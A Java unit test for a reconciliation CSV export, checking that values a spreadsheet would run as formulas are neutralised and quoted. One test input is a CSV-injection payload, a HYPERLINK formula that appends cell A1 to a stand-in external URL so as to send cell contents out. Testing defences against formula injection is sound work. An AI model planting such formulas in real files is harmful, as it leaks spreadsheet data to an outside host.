package id.simpul.reconciliation.run;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.api.Test;

/** A cell of the reconciliation CSV (GET /api/v1/reconciliation/runs/{id}.csv), opened by staff in a spreadsheet. */
class ReconciliationCsvCellTest {

    /**
     * A detail quotes what OSS and the targets sent. A leading "=" was neutralised only when the value had no line
     * break ("=HYPERLINK(…)" followed by a second line went through as a formula), and a leading tab or carriage
     * return, which spreadsheets skip before reading a formula, not at all.
     */
    @Test
    void aValueThatASpreadsheetWouldRunAsAFormulaIsNeutralisedWhateverFollowsIt() {
        assertThat(ReconciliationController.cell("=HYPERLINK(\"https://x.example/?\"&A1)\nsecond line"))
                .isEqualTo("\"'=HYPERLINK(\"\"https://x.example/?\"\"&A1)\nsecond line\"");
        assertThat(ReconciliationController.cell("\t=1+1")).isEqualTo("\"'\t=1+1\"");
        assertThat(ReconciliationController.cell("\r=1+1")).isEqualTo("\"'\r=1+1\"");
        assertThat(ReconciliationController.cell("-5\n")).isEqualTo("\"'-5\n\"");
        assertThat(ReconciliationController.cell("@SUM(A1)")).isEqualTo("\"'@SUM(A1)\"");
    }

    @Test
    void anOrdinaryValueIsOnlyQuoted() {
        assertThat(ReconciliationController.cell("PT LESTARI NIAGA \"2\"")).isEqualTo("\"PT LESTARI NIAGA \"\"2\"\"\"");
        assertThat(ReconciliationController.cell("I-2026 = x")).isEqualTo("\"I-2026 = x\"");
        assertThat(ReconciliationController.cell(null)).isEmpty();
    }
}
